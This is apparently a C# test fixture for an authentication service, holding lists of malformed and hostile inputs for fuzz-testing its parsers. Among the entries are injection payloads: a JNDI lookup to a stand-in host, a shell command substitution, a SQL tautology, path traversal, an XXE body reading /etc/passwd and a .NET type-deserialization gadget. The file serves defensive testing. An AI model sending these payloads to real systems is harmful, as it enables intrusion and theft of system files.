using System.Text;

namespace AuthFunctions.Tests.Hostile;

/// <summary>Values that parsers stumble over.</summary>
internal static class Texts
{
    public static readonly string[] Odd =
    [
        // Nothing, white space, what ends a string elsewhere.
        "", " ", "\0", "\u0001\u007f", "\t", "'", "\"", "\\", "{}", "[]", "null", "true", "undefined",

        // Numbers at the edges (CWE-190).
        "-1", "0", "1e999", "2147483648", "9223372036854775808", "99999999999999999999", "NaN", "0x10", "١٢",

        // Percent-encoding that is none, or of no UTF-8 (RFC 3986 §2.1; CWE-176; overlong "/" of RFC 3629 §10).
        "%", "%zz", "%00", "%ff%fe", "%c0%af", "%u0041",

        // Unicode: astral, bidirectional override, combining, non-character, half of a pair (UTR 36).
        "\ud83d\ude00", "\u202e", "e\u0301", "\ufffe", "\ufeff", "\\ud800", "\ud800", "ﬁ", "ı", "\u2028",

        // Other languages' syntax (OWASP: injection).
        "<script>", "${jndi:ldap://evil.test}", "{{7*7}}", "' or '1'='1", "(objectClass=*)", "partitionKey eq 'x'", "$(id)", "..%2f..%2f",
        "../../admin",

        // Almost ours.
        "a@b", "@", "a@" + new string('b', 300), "urn:ietf:params:oauth:request_uri:par_x", "none login", "openid openid", "openid  email", "sid_",
        "rt_",
        "code_AAAA", "link_", "par_", "dev_", "sealed_AAAA", "CfDJ8AAAA", "BCDF-GHJK", "S256", "body", "cookie",

        // Long ones.
        new string('a', 5000), new string('\u4e2d', 3000), string.Concat(Enumerable.Repeat("%20", 1500)),
    ];

    /// <summary>Bytes that are no UTF-8, or a byte order mark where none belongs (RFC 3629 §3, §6).</summary>
    public static readonly byte[][] BadBytes =
        [[0xff], [0xc3, 0x28], [0xed, 0xa0, 0x80], [0x00], [0xef, 0xbb, 0xbf], [0xf8, 0x88, 0x80, 0x80, 0x80], [0xc0, 0xaf]];

    /// <summary>Bodies that have nothing to do with what is asked for.</summary>
    public static readonly Func<byte[]>[] Bodies =
    [
        () => Encoding.UTF8.GetBytes(new string('[', 5000)),
        () => Encoding.UTF8.GetBytes(string.Concat(Enumerable.Repeat("{\"email\":", 2000))),
        () => Encoding.UTF8.GetBytes("{" + string.Join(',', Enumerable.Range(0, 3000).Select(i => $"\"f{i}\":{i}")) + "}"),
        () => Encoding.UTF8.GetBytes("{\"email\":\"a\",\"email\":\"b\"}"),
        () => Encoding.UTF8.GetBytes("{\"email\":\"\\ud800\",\"\\udc00\":1}"),
        () => Encoding.UTF8.GetBytes("{\"__proto__\":{\"transport\":\"body\"},\"constructor\":1}"),
        () => Encoding.UTF8.GetBytes("{\"password\":" + new string('1', 60_000) + "}"),
        () => Encoding.UTF8.GetBytes("{\"$type\":\"System.Diagnostics.Process\",\"email\":null}"),
        () => Encoding.UTF8.GetBytes(string.Join('&', Enumerable.Range(0, 5000).Select(i => $"f{i}=x"))),
        () => Encoding.UTF8.GetBytes(string.Join('&', Enumerable.Repeat("resource=https://orders.example", 1500))),
        () => Encoding.UTF8.GetBytes(new string('&', 60_000)),
        () => Encoding.UTF8.GetBytes(new string('=', 60_000)),
        () => Encoding.UTF8.GetBytes(new string('k', 3000) + "=v"),
        () => Encoding.UTF8.GetBytes("--x\r\nContent-Disposition: form-data; name=\"token\"\r\n\r\nx\r\n--x--\r\n"),
        () => Encoding.UTF8.GetBytes("<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>"),
        () => Encoding.BigEndianUnicode.GetBytes("{\"email\":\"a\"}"),
        () => new byte[60_000],
        () => new byte[70_000],
        () => new byte[200_000],
        () => [0x1f, 0x8b, 0x08, 0, 0, 0, 0, 0, 0, 3, 0xed, 0xc1],
    ];

    public static readonly string[] ContentTypes =
    [
        Draft.Json, Draft.Form, "", "text/plain", "text/html", "multipart/form-data", "multipart/form-data; boundary=x",
        "multipart/form-data; boundary=" + new string('b', 300),
        "application/json; charset=utf-7", "application/json; charset=utf-16", "application/x-www-form-urlencoded; charset=utf-7",
        "application/x-www-form-urlencoded; charset=utf-16", "application/x-www-form-urlencoded; charset=\"", "application/x-www-form-urlencoded; ;=",
        "application/x-www-form-urlencoded, application/json", "application/json;;=", "application/jose", "application/merge-patch+json",
        "application/xml", ";", "/", "*/*",
        "application/" + new string('j', 5000),
    ];
}
